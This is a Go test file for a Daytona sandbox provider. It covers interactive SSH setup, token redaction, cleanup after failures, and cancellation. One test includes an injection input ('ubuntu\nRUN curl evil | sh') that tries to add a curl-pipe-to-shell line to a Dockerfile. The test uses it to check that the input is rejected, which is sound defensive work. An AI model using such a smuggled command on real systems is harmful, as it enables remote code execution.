package provider

import (
	"bytes"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	daytonaworker "github.com/daytonaworker/daytona-worker"
	"github.com/daytonaworker/daytona-worker/cleanup"
	"github.com/daytonaworker/daytona-worker/daytona"
	"github.com/daytonaworker/daytona-worker/daytona/daytonatest"
	"github.com/daytonaworker/daytona-worker/rpc"
)

const rSSHAccess = "/sandbox/{sandboxIdOrName}/ssh-access"

// setupFlagMethods are the manifest's interactive-setup and template flags
// and the methods the host requires before it uses each.
var setupFlagMethods = map[string][]string{
	"supportsInteractiveSetup": {"environmentStartInteractiveSetup", "environmentGetInteractiveSetup", "environmentCancelInteractiveSetup"},
	"supportsTemplateCapture":  {"environmentCaptureTemplate"},
	"supportsTemplateDelete":   {"environmentDeleteTemplate"},
}

// TestManifestDeclaresSetupAndTemplatesBackedByMethods: both profiles
// declare interactive setup over SSH and snapshot templates (reference
// test 1's flags), and every flag's methods are registered.
func TestManifestDeclaresSetupAndTemplatesBackedByMethods(t *testing.T) {
	reg := registryOf(New(Options{}))
	for _, p := range Profiles {
		raw, err := ManifestJSON(p)
		require.NoError(t, err)
		m := decode[Manifest](t, raw)
		drv := m.EnvironmentDrivers[0]
		require.Equal(t, []any{"ssh"}, drv["interactiveSetupConnectionTypes"], p)
		require.Equal(t, "snapshot", drv["templateRefKind"], p)
		require.Equal(t, map[string]any{"field": "snapshot", "unsetFields": []any{"image"}}, drv["templateConfigBinding"], p)
		require.Equal(t, []any{"apiUrl"}, drv["templateIdentityPaths"], p)
		require.Equal(t, true, drv["sandboxCapabilities"].(map[string]any)["runnerWebSocketIngress"], p)
		for flag, methods := range setupFlagMethods {
			require.Equal(t, true, drv[flag], "%s declares %s", p, flag)
			for _, method := range methods {
				require.True(t, reg.Has(method), "%s is declared but %s is not registered", flag, method)
			}
		}
		for k := range drv {
			if p == ProfileCompat2026916 {
				require.Contains(t, CompatDriverKeys, k, "the 2026.916.1 validator rejects unknown driver keys")
			}
		}
	}
	require.NotEmpty(t, daytonaworker.ManifestJSON)
}

func (e *testEnv) startSetup(extra ...any) (rpc.SetupSession, error) {
	e.t.Helper()
	raw, err := e.call("environmentStartInteractiveSetup", with(e.base(nil), append([]any{"sessionId", "setup-session-1"}, extra...)...))
	if err != nil {
		return rpc.SetupSession{}, err
	}
	return decode[rpc.SetupSession](e.t, raw), nil
}

func (e *testEnv) setupParams(id any, extra ...any) map[string]any {
	return with(e.base(nil), append([]any{"providerLeaseId", id}, extra...)...)
}

// withoutPayload is the session as JSON without its connection payload:
// the part that must never carry the SSH token.
func withoutPayload(t *testing.T, s rpc.SetupSession) string {
	s.ConnectionPayload = nil
	return string(mustJSON(t, s))
}

// TestInteractiveSetupStartsWithRedactedMetadataAndOneTimeSSH: the setup
// sandbox is labelled for its session, and the SSH token appears only in
// the connection payload (reference test 39).
func TestInteractiveSetupStartsWithRedactedMetadataAndOneTimeSSH(t *testing.T) {
	var logs bytes.Buffer
	e := newTestEnv(t, map[string]any{"snapshot": "base-snap"})
	e.use(e.driverWith(func(o *Options) { o.Logger = slog.New(slog.NewTextHandler(&logs, nil)) }))
	s, err := e.startSetup("connectionExpiresInMinutes", 15.9, "expiresAt", "2030-01-01T00:00:00.000Z",
		"sourceTemplateRef", "tmpl-source")
	require.NoError(t, err)
	require.NotNil(t, s.ProviderLeaseID)
	id := *s.ProviderLeaseID
	require.Equal(t, "waiting_for_user", s.Status)
	require.Equal(t, "2030-01-01T00:00:00.000Z", *s.ExpiresAt, "the host's deadline wins")

	grants := e.srv.SSHAccess(id)
	require.Len(t, grants, 1)
	tok := grants[0].Token
	require.Equal(t, map[string]any{"type": "ssh", "command": "ssh " + tok + "@" + daytonatest.SSHHost, "token": tok,
		"expiresAt": s.ConnectionPayload["expiresAt"], "metadata": map[string]any{"provider": "daytona", "sensitive": true}}, s.ConnectionPayload)
	require.Equal(t, map[string]any{"type": "ssh", "username": "token", "hostRedacted": true, "portRedacted": true,
		"commandRedacted": true, "expiresAt": s.ConnectionPayload["expiresAt"],
		"metadata": map[string]any{"provider": "daytona", "expiresInMinutes": float64(15)}}, s.ConnectionSummary)
	require.Equal(t, grants[0].ExpiresAt.UTC().Format(isoMillis), s.ConnectionPayload["expiresAt"])

	// The whole metadata: nothing more, nothing less.
	require.Equal(t, map[string]any{"provider": "daytona", "sandboxId": id, "sandboxState": "started", "target": "us",
		"connectionRedacted": true, "sourceTemplateRefRedacted": true, "snapshotConfigured": true, "imageConfigured": false,
		"shellCommand": "bash", "remoteCwd": "/home/daytona/" + workspaceDirName, "timeoutMs": float64(20000)}, s.Metadata)
	rest := withoutPayload(t, s)
	for _, secret := range []string{tok, "tmpl-source", e.srv.APIKey()} {
		require.NotContains(t, rest, secret)
		require.NotContains(t, logs.String(), secret)
	}

	info := e.info(id)
	require.Equal(t, "tmpl-source", info.Snapshot, "the source template replaces the config's snapshot")
	require.Equal(t, "interactive_setup", info.Labels[cleanup.LabelPurpose], "the value the host and the reference read")
	require.Equal(t, map[string]string{cleanup.LabelPurpose: "interactive_setup", cleanup.LabelSetupSessionID: "setup-session-1",
		cleanup.LabelCompanyID: "company-1", "paperclip-environment-id": "env-1", "paperclip-provider": "daytona",
		"paperclip-reuse-lease": "false", cleanup.LabelCreateAttempt: info.Labels[cleanup.LabelCreateAttempt]}, info.Labels)
	require.Regexp(t, uuidRE, info.Labels[cleanup.LabelCreateAttempt])
	require.True(t, strings.HasPrefix(info.Name, cleanup.CreationNamePrefix))

	// The lease is admitted: it serves commands like any other.
	r, err := e.execute(lease{ProviderLeaseID: &id}, "echo", []string{"in setup"})
	require.NoError(t, err)
	require.Contains(t, r.Stdout, "in setup")
}

func TestSSHMinutesAreTruncatedAndClamped(t *testing.T) {
	for _, c := range []struct {
		in   *float64
		want int
	}{{nil, 60}, {new(15.9), 15}, {new(0.0), 1}, {new(-5.0), 1}, {new(1440.5), 1440}, {new(1e300), 1440}} {
		require.Equal(t, c.want, sshMinutes(c.in))
	}
}

// TestInteractiveSetupFromAnImageSource: an image source replaces the
// config's snapshot; a template kind other than image or snapshot is
// refused before anything is created (reference test 40).
func TestInteractiveSetupFromAnImageSource(t *testing.T) {
	e := newTestEnv(t, map[string]any{"snapshot": "base-snap"})
	s, err := e.startSetup("sourceTemplateKind", "image", "sourceTemplateRef", "ubuntu:24.04")
	require.NoError(t, err)
	sb, _, err := e.client.Sandboxes.Get(t.Context(), *s.ProviderLeaseID)
	require.NoError(t, err)
	require.NotNil(t, sb.BuildInfo)
	require.Equal(t, "FROM ubuntu:24.04\n", sb.BuildInfo.DockerfileContent)
	require.Equal(t, true, s.Metadata["imageConfigured"])
	require.Equal(t, false, s.Metadata["snapshotConfigured"])

	_, err = e.startSetup("sourceTemplateKind", "provider_template", "sourceTemplateRef", "x")
	require.EqualError(t, err, "Daytona interactive setup can start from image or snapshot templates only, not provider_template.")
	e.expectLive(*s.ProviderLeaseID)
}

// TestInteractiveSetupCleansUpTheSandboxOnAnyFailure: a setup whose SSH
// access or workspace step fails deletes its sandbox before it answers,
// and the error carries no secret (reference test 41).
func TestInteractiveSetupCleansUpTheSandboxOnAnyFailure(t *testing.T) {
	for _, f := range []daytonatest.Fault{
		{Method: "POST", Route: rSSHAccess, Status: 404},
		{Method: "POST", Route: rSSHAccess, Status: 200, Body: `{"id":"a","sandboxId":"x","token":"","sshCommand":""}`},
		{Method: "POST", Route: rExecute, Status: 500},
	} {
		e := newTestEnv(t, nil)
		e.srv.Inject(f)
		_, err := e.startSetup()
		require.Error(t, err, "%+v", f)
		require.NotContains(t, err.Error(), e.srv.APIKey())
		require.Equal(t, 1, e.srv.CountRequests("POST", rCreate), "one sandbox was created")
		e.expectLive()
		if f.Body != "" {
			require.EqualError(t, err, "Daytona SSH access did not return a token or SSH command.")
		}
	}
}

// A setup whose start fails and whose sandbox then cannot be deleted
// says so, naming the sandbox left behind, beside why the start failed.
// No lease reaches the host, so nothing would ever release an allocation
// kept for it: the worker's idle evidence shows none (it kept one, and
// with it the worker awake, until the first run of this test).
func TestInteractiveSetupNamesASandboxItCouldNotDelete(t *testing.T) {
	e := newTestEnv(t, nil)
	e.srv.Inject(daytonatest.Fault{Method: "POST", Route: rSSHAccess, Status: 404})
	e.srv.Inject(daytonatest.Fault{Method: "DELETE", Route: rSandbox, Status: 500})
	_, err := e.startSetup()
	require.Error(t, err)
	live := e.live()
	require.Len(t, live, 1, "the delete failed: still there")
	require.ErrorIs(t, err, daytona.ErrNotFound, "why the start failed")
	require.ErrorIs(t, err, daytona.ErrServer, "why the delete failed")
	require.ErrorContains(t, err, "the setup sandbox "+live[0].ID+" could not be deleted")
	require.NotContains(t, err.Error(), e.srv.APIKey())
	require.Zero(t, e.d.idle.report().Allocations)
}

// An SSH access that carries a token but no command gets the command of
// Daytona's SSH gateway, ssh.app.daytona.io. (Pins a default:
// fallbackSSHHost.)
func TestInteractiveSetupFallsBackToDaytonasSSHGateway(t *testing.T) {
	e := newTestEnv(t, nil)
	e.srv.Inject(daytonatest.Fault{Method: "POST", Route: rSSHAccess, Status: 200, Times: 1,
		Body: `{"id":"a","sandboxId":"x","token":"tok-1","sshCommand":""}`})
	s, err := e.startSetup()
	require.NoError(t, err)
	require.Equal(t, "ssh tok-1@ssh.app.daytona.io", s.ConnectionPayload["command"])
	require.Equal(t, "tok-1", s.ConnectionPayload["token"])
}

// A source template ref is one word of at most 1024 characters: 1024 is
// taken, 1025 refused before anything is created. (Pins a default:
// maxTemplateRef.)
func TestInteractiveSetupTemplateRefAtItsLimit(t *testing.T) {
	e := newTestEnv(t, nil)
	_, err := e.startSetup("sourceTemplateKind", "image", "sourceTemplateRef", strings.Repeat("r", 1025))
	var re *rpc.Error
	require.True(t, errors.As(err, &re), "%v", err)
	require.Equal(t, rpc.CodeInvalidParams, re.Code)
	require.Zero(t, e.srv.CountRequests("POST", rCreate))
	s, err := e.startSetup("sourceTemplateKind", "image", "sourceTemplateRef", strings.Repeat("r", 1024))
	require.NoError(t, err)
	e.expectLive(*s.ProviderLeaseID)
}

// TestInteractiveSetupRejectsHostileParams: a session id that cannot be a
// label value, or a source template ref that could add lines to a
// Dockerfile, is refused before anything is created.
func TestInteractiveSetupRejectsHostileParams(t *testing.T) {
	e := newTestEnv(t, nil)
	for _, p := range [][]any{
		{"sessionId", ""}, {"sessionId", "a\x00b"}, {"sessionId", strings.Repeat("s", 1<<20)}, {"sessionId", "line\nbreak"},
		{"sessionId", "s", "sourceTemplateKind", "image", "sourceTemplateRef", "ubuntu\nRUN curl evil | sh"},
		{"sessionId", "s", "sourceTemplateKind", "image", "sourceTemplateRef", "ubuntu RUN"},
		{"sessionId", "s", "sourceTemplateRef", "snap\x00"},
		{"sessionId", "s", "sourceTemplateRef", strings.Repeat("r", 1<<20)},
		{"sessionId", "s", "sourceTemplateKind", strings.Repeat("k", 1<<20), "sourceTemplateRef", "x"},
	} {
		_, err := e.call("environmentStartInteractiveSetup", with(e.base(nil), p...))
		var re *rpc.Error
		require.True(t, errors.As(err, &re), "%.80q: %v", p, err)
		require.Equal(t, rpc.CodeInvalidParams, re.Code)
		require.Less(t, len(err.Error()), 2000, "the error does not echo a huge value")
	}
	require.Empty(t, e.srv.Sandboxes())
	_, err := e.startSetup()
	require.NoError(t, err, "the worker keeps serving")
}

// TestInteractiveSetupGetMintsSSHOnlyWhenAsked (reference test 42).
func TestInteractiveSetupGetMintsSSHOnlyWhenAsked(t *testing.T) {
	e := newTestEnv(t, nil)
	s, err := e.startSetup()
	require.NoError(t, err)
	id := *s.ProviderLeaseID
	raw, err := e.call("environmentGetInteractiveSetup", e.setupParams(id))
	require.NoError(t, err)
	got := decode[rpc.SetupSession](t, raw)
	require.Equal(t, "waiting_for_user", got.Status)
	require.Nil(t, got.ConnectionPayload)
	require.NotContains(t, got.ConnectionSummary, "expiresAt")
	require.Contains(t, string(raw), `"connectionPayload":null`)
	require.Len(t, e.srv.SSHAccess(id), 1, "no new SSH access")

	// Asked not to: the same as not asked.
	raw, err = e.call("environmentGetInteractiveSetup", e.setupParams(id, "includeConnectionPayload", false))
	require.NoError(t, err)
	require.Nil(t, decode[rpc.SetupSession](t, raw).ConnectionPayload)
	require.Len(t, e.srv.SSHAccess(id), 1, "includeConnectionPayload false mints no SSH access")

	raw, err = e.call("environmentGetInteractiveSetup", e.setupParams(id, "includeConnectionPayload", true, "connectionExpiresInMinutes", 5))
	require.NoError(t, err)
	got = decode[rpc.SetupSession](t, raw)
	grants := e.srv.SSHAccess(id)
	require.Len(t, grants, 2)
	require.Equal(t, grants[1].Token, got.ConnectionPayload["token"])
	require.NotContains(t, withoutPayload(t, got), grants[1].Token)

	// A sandbox stopped meanwhile is started again.
	require.NoError(t, e.srv.StopSandbox(id))
	e.await(id, daytonatest.StateStopped)
	_, err = e.call("environmentGetInteractiveSetup", e.setupParams(id))
	require.NoError(t, err)
	require.Equal(t, daytonatest.StateStarted, e.state(id))
}

// TestInteractiveSetupGetAndCancelOfAMissingSetup (reference test 43).
func TestInteractiveSetupGetAndCancelOfAMissingSetup(t *testing.T) {
	e := newTestEnv(t, nil)
	missing := `{"providerLeaseId":null,"status":"missing","connectionSummary":null,"connectionPayload":null,"metadata":{"provider":"daytona","missing":true}}`
	for _, id := range []any{nil, "", "no-such-sandbox"} {
		raw, err := e.call("environmentGetInteractiveSetup", e.setupParams(id))
		require.NoError(t, err)
		require.JSONEq(t, missing, string(raw))
		raw, err = e.call("environmentCancelInteractiveSetup", e.setupParams(id, "reason", "user"))
		require.NoError(t, err)
		require.JSONEq(t, `{"status":"missing","metadata":{"provider":"daytona","missing":true,"reason":"user"}}`, string(raw))
	}
	s, err := e.startSetup()
	require.NoError(t, err)
	require.NoError(t, e.client.Sandboxes.DeleteAndWait(t.Context(), *s.ProviderLeaseID))
	raw, err := e.call("environmentGetInteractiveSetup", e.setupParams(*s.ProviderLeaseID))
	require.NoError(t, err)
	require.JSONEq(t, missing, string(raw))
}

// TestCancelInteractiveSetupDeletesTheSandbox (reference test 45).
func TestCancelInteractiveSetupDeletesTheSandbox(t *testing.T) {
	e := newTestEnv(t, nil)
	for _, c := range []struct{ reason, status string }{{"user_cancelled", "cancelled"}, {"timed_out", "timed_out"}} {
		s, err := e.startSetup()
		require.NoError(t, err)
		id := *s.ProviderLeaseID
		raw, err := e.call("environmentCancelInteractiveSetup", e.setupParams(id, "reason", c.reason))
		require.NoError(t, err)
		require.JSONEq(t, `{"status":"`+c.status+`","metadata":{"provider":"daytona","sandboxId":"`+id+`","reason":"`+c.reason+`"}}`, string(raw))
		require.Equal(t, "gone", e.state(id))
		_, err = e.execute(lease{ProviderLeaseID: &id}, "echo", nil)
		var inactive *LeaseInactiveError
		require.ErrorAs(t, err, &inactive, "work after the cancel is refused")
		raw, err = e.call("environmentGetInteractiveSetup", e.setupParams(id))
		require.NoError(t, err)
		require.Equal(t, "missing", decode[rpc.SetupSession](t, raw).Status)
	}
	e.expectLive()
	require.True(t, e.d.Health().Details["idle"].(rpc.IdleReport).SleepAllowed, "no allocation evidence is left")
}

// TestInteractiveCancelWaitsForInFlightWorkAndRefusesQueuedWork: cancel
// closes the lease first (queued work is refused), then waits for work in
// flight, an execute or a realize, before it deletes anything (reference
// tests 138-141).
func TestInteractiveCancelWaitsForInFlightWorkAndRefusesQueuedWork(t *testing.T) {
	eachName(t, []string{"execute", "realize"}, func(t *testing.T, work string) {
		e := newTestEnv(t, nil)
		s, err := e.startSetup()
		require.NoError(t, err)
		id := *s.ProviderLeaseID
		l := lease{ProviderLeaseID: &id, Metadata: s.Metadata}
		gate := make(chan struct{})
		var inFlight <-chan result
		if work == "execute" {
			before := e.srv.CountRequests("POST", rExecute) // the start's own setup steps
			e.srv.Inject(daytonatest.Fault{Route: rExecute, Gate: gate, Times: 1})
			inFlight = e.async("environmentExecute", with(e.base(nil), "lease", l, "command", "echo", "args", []string{"held"}, "bypassSession", true))
			e.awaitRequests("POST", rExecute, before+1)
		} else {
			inFlight = e.realizeHeld(l, gate)
		}
		done := e.async("environmentCancelInteractiveSetup", e.setupParams(id))
		awaitScope(t, e.d, e.scopeOf(id), func(st *scopeState) bool { return st.teardowns == 1 })
		_, err = e.execute(l, "echo", []string{"queued"})
		require.ErrorContains(t, err, "is no longer active", "queued work is refused once cancel closed the lease")
		require.Zero(t, e.srv.CountRequests("DELETE", rSandbox), "cleanup waits for the work in flight")
		close(gate)
		require.NoError(t, wait(t, inFlight).err, "the in-flight work finished on a live sandbox")
		r := wait(t, done)
		require.NoError(t, r.err)
		require.Equal(t, "cancelled", decode[rpc.SetupCancelResult](t, r.raw).Status)
		require.Equal(t, "gone", e.state(id))
	})
}

// TestSetupResultsNeverCarryTheAPIKey: every result and error of the
// setup and template methods is free of the API key.
func TestSetupResultsNeverCarryTheAPIKey(t *testing.T) {
	e := newTestEnv(t, nil)
	s, err := e.startSetup()
	require.NoError(t, err)
	id := *s.ProviderLeaseID
	var all []string
	for _, c := range []struct {
		method string
		params map[string]any
	}{
		{"environmentGetInteractiveSetup", e.setupParams(id, "includeConnectionPayload", true)},
		{"environmentCaptureTemplate", e.setupParams(id, "templateLabel", "secret-free")},
		{"environmentDeleteTemplate", with(e.base(nil), "templateRef", "secret-free")},
		{"environmentCancelInteractiveSetup", e.setupParams(id)},
		{"environmentCaptureTemplate", e.setupParams(id)},
	} {
		raw, err := e.call(c.method, c.params)
		all = append(all, string(raw), errString(err))
	}
	all = append(all, string(mustJSON(t, s)))
	joined := strings.Join(all, "\n")
	require.NotContains(t, joined, e.srv.APIKey())
	require.True(t, json.Valid(mustJSON(t, joined)))
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}
